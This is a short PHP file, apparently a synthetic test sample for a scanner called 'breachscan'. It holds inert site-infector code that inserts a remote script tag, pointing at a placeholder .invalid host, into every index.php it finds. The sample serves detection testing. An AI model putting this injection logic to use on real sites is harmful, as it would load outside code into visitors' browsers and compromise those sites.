<?php
// synthetic test sample for breachscan: site infector inserting a <script src=...> tag into
// every index page found. Host is .invalid; disabled.
return;
$tag = '<script src="http://cdn.example.invalid/j.js"></script>';
foreach (glob(dirname(__FILE__) . '/*/index.php') as $f) {
    $c = file_get_contents($f);
    if (strpos($c, $tag) === false) file_put_contents($f, str_replace('</body>', $tag . '</body>', $c));
}
